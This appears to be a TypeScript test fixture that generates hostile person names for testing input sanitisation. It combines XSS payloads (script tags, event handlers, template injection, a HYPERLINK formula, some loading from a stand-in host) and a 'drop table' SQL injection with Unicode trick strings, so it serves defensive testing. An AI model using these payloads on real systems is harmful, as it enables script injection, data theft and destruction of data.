/** Set by a payload that runs; nothing else in the world sets it. */
export const ranFlag = "__leadmarkPayloadRan";
/** Where a payload would send something; no name ends like this. */
const elsewhere = "https://elsewhere.invalid";

const run = `window.${ranFlag}=1`;

/** Markup and script in the places where they have worked somewhere (OWASP, XSS filter evasion; PortSwigger's cheat sheet). */
const payloads = [
  `<script>${run}</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/x.png">`,
  `<svg onload="${run}">`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<iframe srcdoc="<script>parent.${ranFlag}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${ranFlag}=1"></iframe>`,
  `<object data="${elsewhere}/x"></object>`,
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<style>@import "${elsewhere}/x.css";</style>`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<form action="${elsewhere}"><button>Sign in</button></form>`,
  `<a href="javascript:${run}">click</a>`,
  `<details open ontoggle="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<template><script>${run}</script></template>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `" autofocus onfocus="${run}`,
  `" style="background:url(${elsewhere}/x.png)`,
  `\`><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</option></select><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `]]><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `javascript:${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `=HYPERLINK("${elsewhere}","x")`,
  `'; drop table members; --`,
];

/** Names that are not what they seem, or larger than anybody thought. */
const oddities = [
  "Mаyа Lindqvist",
  "Ines‮etrauD",
  "‏מאיה לינדקוויסט‏",
  "⁦Tom⁩⁦Okafor",
  "​Lea​",
  "Noor\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(20),
  "👩‍👩‍👧‍👦".repeat(20),
  "W".repeat(199),
  "a ".repeat(99) + "a",
  "ﷺ".repeat(60),
];

/** Each payload as it is, and inside what people's names and addresses look like. */
const dresses: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `Maya ${payload}`,
  (payload) => `${payload} Lindqvist`,
  (payload) => payload.toUpperCase().replaceAll(ranFlag.toUpperCase(), ranFlag),
  (payload) => `"${payload}"`,
  (payload) => `'${payload}'`,
  (payload) => `>${payload}<`,
  (payload) => `‮${payload}‬`,
  (payload) => payload.replaceAll("<", "<​"),
  (payload) => `(${payload})`,
  (payload) => `${payload}${payload}`,
];

/** 500 names, no two the same. */
export function hostileNames(): string[] {
  const dressed = [...payloads, ...oddities].flatMap((payload) => dresses.map((dress) => dress(payload)));
  return [...new Set(dressed)].slice(0, 500);
}
